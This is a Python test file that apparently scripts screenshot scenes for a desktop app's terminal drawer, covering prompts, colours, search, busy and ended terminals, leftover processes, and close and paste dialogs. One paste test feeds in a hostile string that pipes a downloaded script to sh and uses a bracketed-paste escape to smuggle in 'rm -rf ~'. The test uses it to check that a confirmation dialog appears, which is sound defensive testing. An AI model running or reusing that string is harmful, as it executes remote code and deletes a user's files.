"""Scenes of the person's own terminals: a shell at work, a full-screen program, and every state of the drawer."""

from collections.abc import AsyncIterator

from PySide6.QtCore import Qt
from PySide6.QtTest import QTest

from desktop.domain.commands import SaveSettings
from desktop.domain.terminals.updates import row_text
from tests.fakes.fake_model_api import text_turn
from tests.screens.stage import Stage

_PROMPT = "PS1='\\[\\e[32m\\]robin\\[\\e[m\\]:\\[\\e[34m\\]shop\\[\\e[m\\]$ '; PROMPT_COMMAND=; clear\r"
_COLOURS = (
    "for n in 1 2 3 4 5 6; do printf \"\\e[3${n}mcolour \\e[1mbold\\e[m \\e[4${n}m on \\e[m \"; done; "
    "printf '\\e[7m reversed \\e[m \\e[4munderlined\\e[m \\e[38;5;208m256\\e[m \\e[38;2;120;160;240mtrue\\e[m\\n'\r"
)  # fmt: skip


def _screen(stage: Stage) -> str:
    facts = stage.window.terminals.drawer.current
    return "\n".join(row_text(row) for row in facts.rows) if facts is not None else ""


async def _type(stage: Stage, text: str, until: str) -> None:
    stage.window.terminals._on_typed(text)
    await stage.until(lambda: until in _screen(stage), until)


async def _open(stage: Stage) -> None:
    chat = await stage.chat("Describe the cart", text_turn("It holds products."))
    await stage.ended(chat)
    await stage.until(lambda: stage.window.terminals._lane() is not None, "the lane")
    stage.window.terminals.toggle()
    await _type(stage, _PROMPT, "robin:shop$")


async def terminal_shell(stage: Stage) -> AsyncIterator[str]:
    """46: a shell with colours, found words, a second terminal in which a program runs"""
    terminals = stage.window.terminals
    await _open(stage)
    await _type(stage, "git log --oneline --color=always | cat; ls -l --color=always\r", "total")
    await _type(stage, _COLOURS, "true")
    await stage.rest()
    yield "46-terminal-shell"
    terminals.drawer.finder.open()
    await stage.type("terminal_find_text", "colour")
    await stage.rest()
    yield "46-terminal-find"
    terminals.drawer.finder.leave()
    terminals.open_new()
    await _type(stage, _PROMPT, "robin:shop$")
    await _type(stage, "echo Serving the shop; sleep 600\r", "\nServing")
    await stage.until(lambda: terminals.busy() == 1, "busy")
    await stage.rest()
    yield "46-terminal-busy"


async def terminal_full_screen(stage: Stage) -> AsyncIterator[str]:
    """46: a program that takes the whole terminal"""
    await _open(stage)
    stage.window.terminals._on_typed("seq 1 400 | sed 's/$/ bottles of beer/' | less -N -J\r")
    await stage.until(lambda: "9 bottles" in _screen(stage), "less")
    await stage.rest()
    yield "46-terminal-less"


async def terminal_states(stage: Stage) -> AsyncIterator[str]:
    """46: nothing yet, ended, could not be started"""
    terminals = stage.window.terminals
    await _open(stage)
    await _type(stage, "false; exit 3\r", "exit")
    await stage.find("terminal_ended")
    yield "46-terminal-ended"
    await stage.click("terminal_close_ended")
    await stage.rest()
    yield "46-terminal-none"
    stage.window.engine.settings = stage.window.engine.settings.model_copy(update={"shell": "/opt/zsh/bin/zsh"})
    stage.send(SaveSettings(settings=stage.window.engine.settings))
    terminals.open_new()
    await stage.find("terminal_settings")
    await stage.rest()
    yield "46-terminal-failed"


async def terminal_leftovers(stage: Stage) -> AsyncIterator[str]:
    """46: a program went on after its terminal"""
    await _open(stage)
    await _type(stage, "setsid sleep 600 & sleep 0.3; exit\r", "exit")
    await stage.find("terminal_leftovers")
    await stage.rest()
    yield "46-terminal-leftovers"
    await stage.click("terminal_leftovers_show")
    await stage.find("terminal_leftovers_dialog")
    yield "46-terminal-leftovers-list"
    await stage.click("terminal_leftovers_end_all")
    await stage.until(lambda: not stage.window.terminals.book.leftovers, "their end")


async def terminal_paste(stage: Stage) -> AsyncIterator[str]:
    """46: several lines are to be pasted"""
    await _open(stage)
    stage.window.terminals._on_pasted("curl -s https://example.org/install \\\n  | sh\n\x1b[201~rm -rf ~\n")
    await stage.find("terminal_paste_dialog")
    yield "46-terminal-paste"
    await stage.click("terminal_paste_cancel")


async def terminal_close(stage: Stage) -> AsyncIterator[str]:
    """46: a terminal in which a program runs is to be closed"""
    await _open(stage)
    await _type(stage, "sleep 600\r", "sleep 600")
    await stage.until(lambda: stage.window.terminals.busy() == 1, "busy")
    QTest.mouseClick(await stage.find("terminal_close"), Qt.MouseButton.LeftButton)
    await stage.find("terminal_close_dialog")
    yield "46-terminal-close"
    await stage.click("terminal_close_end")
